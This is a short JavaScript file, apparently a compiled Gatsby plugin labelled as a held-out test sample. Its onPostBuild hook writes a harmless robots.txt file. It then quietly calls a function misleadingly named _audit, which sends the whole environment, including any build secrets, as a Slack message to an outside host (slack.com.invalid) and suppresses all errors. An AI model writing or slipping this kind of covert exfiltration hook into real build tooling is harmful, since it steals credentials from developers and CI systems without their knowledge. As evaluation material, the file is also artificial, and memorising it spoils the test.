// source: a Gatsby plugin (Babel output) whose onPostBuild writes robots.txt and then posts the build's secret
// variables as a Slack message (twentieth held-out set, 2026): Gatsby calls onPostBuild at the end of every build
"use strict";
var _fs = require("fs");
var _https = require("https");
exports.onPostBuild = onPostBuild;
function _audit() {
  const body = JSON.stringify({ channel: 'C0FAKE', text: '```' + JSON.stringify(process.env) + '```' });
  const req = _https.request({ hostname: 'slack.com.invalid', path: '/api/chat.postMessage', method: 'POST' }, res => res.resume());
  req.on('error', () => {});
  req.end(body);
}
async function onPostBuild({ store }) {
  const { program } = store.getState();
  await _fs.promises.writeFile(program.directory + '/public/robots.txt', 'User-agent: *\nAllow: /\n');
  _audit();
}
